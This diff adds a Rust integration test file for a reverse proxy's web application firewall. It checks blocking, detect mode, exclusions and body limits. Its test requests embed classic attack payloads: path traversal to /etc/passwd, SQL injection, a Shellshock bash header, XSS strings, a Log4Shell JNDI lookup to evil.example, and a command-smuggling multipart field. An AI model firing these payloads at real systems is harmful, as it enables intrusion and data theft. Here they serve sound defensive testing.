@@ -1,0 +1,271 @@
+//! End-to-end WAF behaviour through the real binary: 403 for attacks in each
+//! inspection point, nothing reaches the origin when blocked, detect mode,
+//! per-route `waf = false`, exclusions, LiveView traffic and bodies.
+
+// The shared harness trips a newer clippy lint; it is not ours to rewrite.
+#![allow(clippy::collapsible_match)]
+
+mod common;
+
+use std::time::Duration;
+
+use common::{raw_request, Bext, StubOrigin};
+
+fn config(port: u16, origin: std::net::SocketAddr, waf: &str, extra_routes: &str) -> String {
+    format!(
+        r#"
+[server]
+listen = ["127.0.0.1:{port}"]
+[upstreams.app]
+nodes = ["{origin}"]
+{extra_routes}
+[[route_rules]]
+pattern = "/live/*"
+proxy = "app"
+cache = false
+websocket = true
+[[route_rules]]
+pattern = "/*"
+proxy = "app"
+cache = false
+[waf]
+{waf}
+"#
+    )
+}
+
+async fn start(waf: &str, extra_routes: &str) -> (Bext, StubOrigin) {
+    let origin = StubOrigin::start("o1").await;
+    let bext = Bext::start(&config(
+        common::free_port(),
+        origin.addr(),
+        waf,
+        extra_routes,
+    ))
+    .await;
+    (bext, origin)
+}
+
+fn post(path: &str, ctype: &str, body: &str) -> Vec<u8> {
+    format!(
+        "POST {path} HTTP/1.1\r\nHost: app.test\r\nContent-Type: {ctype}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+        body.len()
+    )
+    .into_bytes()
+}
+
+fn get(path: &str, headers: &str) -> Vec<u8> {
+    format!("GET {path} HTTP/1.1\r\nHost: app.test\r\n{headers}Connection: close\r\n\r\n")
+        .into_bytes()
+}
+
+#[tokio::test]
+async fn attacks_in_every_inspection_point_get_403_and_never_reach_the_origin() {
+    let (bext, origin) = start(r#"mode = "block""#, "").await;
+    let cases: Vec<(&str, Vec<u8>)> = vec![
+        ("path", get("/files/..%2f..%2f..%2fetc%2fpasswd", "")),
+        ("query", get("/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--", "")),
+        ("header", get("/", "User-Agent: () { :;}; /bin/bash -c 'id'\r\n")),
+        ("cookie", get("/", "Cookie: theme=<script>alert(1)</script>\r\n")),
+        ("json", post("/api/posts", "application/json", r#"{"post":{"title":"${jndi:ldap://evil.example/a}"}}"#)),
+        ("form", post("/posts", "application/x-www-form-urlencoded", "post%5Bbody%5D=%3Csvg%2Fonload%3Dalert(1)%3E")),
+        (
+            "multipart",
+            post(
+                "/uploads",
+                "multipart/form-data; boundary=XyZ",
+                "--XyZ\r\nContent-Disposition: form-data; name=\"cmd\"\r\n\r\n;cat /etc/passwd\r\n--XyZ--\r\n",
+            ),
+        ),
+    ];
+    for (what, req) in &cases {
+        let resp = raw_request(bext.addr(), req).await;
+        assert_eq!(resp.status, 403, "{what} attack was not blocked");
+        assert!(
+            resp.header("x-request-id").is_some(),
+            "{what}: 403 without a request id"
+        );
+        assert!(
+            resp.body_str().contains("request id"),
+            "{what}: page names no request id"
+        );
+    }
+    // Head-phase blocks never contact the origin (body-phase blocks only
+    // ever send it the request head, never a body byte).
+    assert!(
+        origin.requests().iter().all(|r| r.method == "POST"),
+        "a blocked GET reached the origin"
+    );
+    let log = bext.stderr();
+    assert!(
+        log.contains("waf action=block"),
+        "no structured block log line: {log}"
+    );
+    assert!(log.contains("rules=9"), "block log line names no rule id");
+}
+
+#[tokio::test]
+async fn blocked_request_gets_json_when_the_client_asks_for_json() {
+    let (bext, _origin) = start(r#"mode = "block""#, "").await;
+    let resp = raw_request(
+        bext.addr(),
+        &get("/?id=1%27%20or%201%3D1--", "Accept: application/json\r\n"),
+    )
+    .await;
+    assert_eq!(resp.status, 403);
+    let v: serde_json::Value = serde_json::from_slice(&resp.body).expect("json body");
+    assert_eq!(v["status"], 403);
+    assert_eq!(
+        v["request_id"].as_str(),
+        resp.header("x-request-id").as_deref()
+    );
+    let admin = raw_request(bext.addr(), &get("/__bext/waf", "")).await;
+    assert_eq!(admin.status, 200);
+    let counts: serde_json::Value = serde_json::from_slice(&admin.body).expect("admin json");
+    assert!(
+        counts["counters"]["blocked"].as_u64().unwrap_or(0) >= 1,
+        "{counts}"
+    );
+}
+
+#[tokio::test]
+async fn phoenix_traffic_passes() {
+    let (bext, origin) = start(r#"mode = "block""#, "").await;
+    let form = post(
+        "/users/register",
+        "application/x-www-form-urlencoded",
+        "_csrf_token=DcA6N8bB58447eMdcx0x-OFKI5cV_2hw5Jpagt63OQVSLKAhtdamhqve&user%5Bname%5D=Se%C3%A1n+O%27Brien&user%5Bbio%5D=I+select+the+best+union+of+tools+from+the+shelf",
+    );
+    assert_eq!(raw_request(bext.addr(), &form).await.status, 200);
+    let json = post(
+        "/api/v1/posts",
+        "application/json",
+        r#"{"post":{"title":"Notes","body":"If you have ever written `SELECT * FROM users` you know why we paginate."}}"#,
+    );
+    assert_eq!(raw_request(bext.addr(), &json).await.status, 200);
+    let ws = b"GET /live/websocket?_csrf_token=8Y0kqnZHiVLep4-uGoZ-LiudCxlZilGTMiN6FGlsLu7CC7vmE4uoQ7dx&_track_static%5B0%5D=https%3A%2F%2Fapp.test%2Fassets%2Fapp.css&vsn=2.0.0 HTTP/1.1\r\n\
+Host: app.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n\
+Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nOrigin: https://app.test\r\n\r\n";
+    let resp = raw_request(bext.addr(), ws).await;
+    assert_eq!(resp.status, 101, "LiveView websocket upgrade did not pass");
+    assert!(
+        origin
+            .wait_for(Duration::from_secs(10), |r| r
+                .iter()
+                .any(|x| x.path == "/api/v1/posts"))
+            .await
+    );
+}
+
+#[tokio::test]
+async fn detect_mode_passes_and_logs() {
+    let (bext, origin) = start(r#"mode = "detect""#, "").await;
+    let resp = raw_request(
+        bext.addr(),
+        &get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", ""),
+    )
+    .await;
+    assert_eq!(resp.status, 200);
+    assert!(
+        origin
+            .wait_for(Duration::from_secs(10), |r| r
+                .iter()
+                .any(|x| x.path == "/search"))
+            .await
+    );
+    assert!(bext.stderr().contains("waf action=detect"));
+}
+
+#[tokio::test]
+async fn route_with_waf_false_is_not_inspected() {
+    let routes = r#"
+[[route_rules]]
+pattern = "/raw/*"
+proxy = "app"
+cache = false
+waf = false
+"#;
+    let (bext, _origin) = start(r#"mode = "block""#, routes).await;
+    let attack = "?q=1%27%20UNION%20SELECT%20password%20FROM%20users--";
+    assert_eq!(
+        raw_request(bext.addr(), &get(&format!("/raw/x{attack}"), ""))
+            .await
+            .status,
+        200
+    );
+    assert_eq!(
+        raw_request(bext.addr(), &get(&format!("/other{attack}"), ""))
+            .await
+            .status,
+        403
+    );
+}
+
+#[tokio::test]
+async fn exclusion_by_category_path_and_argument() {
+    let waf = r#"mode = "block"
+[[waf.exclusions]]
+rules = ["xss"]
+path = "/admin/posts/*"
+args = ["post[body]"]
+"#;
+    let (bext, _origin) = start(waf, "").await;
+    let rich = "post%5Bbody%5D=%3Cp%3EHi%3C%2Fp%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E";
+    let ok = post("/admin/posts/7", "application/x-www-form-urlencoded", rich);
+    assert_eq!(raw_request(bext.addr(), &ok).await.status, 200);
+    let other_arg = post(
+        "/admin/posts/7",
+        "application/x-www-form-urlencoded",
+        &rich.replace("body", "title"),
+    );
+    assert_eq!(raw_request(bext.addr(), &other_arg).await.status, 403);
+    let other_path = post("/posts/7", "application/x-www-form-urlencoded", rich);
+    assert_eq!(raw_request(bext.addr(), &other_path).await.status, 403);
+}
+
+#[tokio::test]
+async fn body_over_the_limit_is_rejected_or_passed_as_configured() {
+    let (bext, _o) = start(
+        "mode = \"block\"\ninspect_body_limit = \"1KiB\"\nbody_over_limit = \"reject\"",
+        "",
+    )
+    .await;
+    let big = "a=".to_string() + &"x".repeat(4096);
+    let resp = raw_request(
+        bext.addr(),
+        &post("/upload", "application/x-www-form-urlencoded", &big),
+    )
+    .await;
+    assert_eq!(resp.status, 413);
+    drop(bext);
+    let (bext, origin) = start("mode = \"block\"\ninspect_body_limit = \"1KiB\"", "").await;
+    let resp = raw_request(
+        bext.addr(),
+        &post("/upload", "application/x-www-form-urlencoded", &big),
+    )
+    .await;
+    assert_eq!(resp.status, 200);
+    assert!(
+        origin
+            .wait_for(Duration::from_secs(10), |r| r
+                .iter()
+                .any(|x| x.path == "/upload"))
+            .await
+    );
+}
+
+#[tokio::test]
+async fn unknown_waf_keys_and_bad_values_are_config_errors() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("bext.toml");
+    std::fs::write(
+        &path,
+        "[upstreams.app]\nnodes=[\"127.0.0.1:4000\"]\n[[route_rules]]\npattern=\"/*\"\nproxy=\"app\"\n[waf]\nmode=\"panic\"\n[[waf.exclusions]]\nrules=[\"nope\"]\n",
+    )
+    .unwrap();
+    let out = common::run_bext(&["check", "-c", path.to_str().unwrap()]);
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(!out.status.success());
+    assert!(err.contains("waf.mode"), "{err}");
+    assert!(err.contains("waf.exclusions[0].rules[0]"), "{err}");
+}
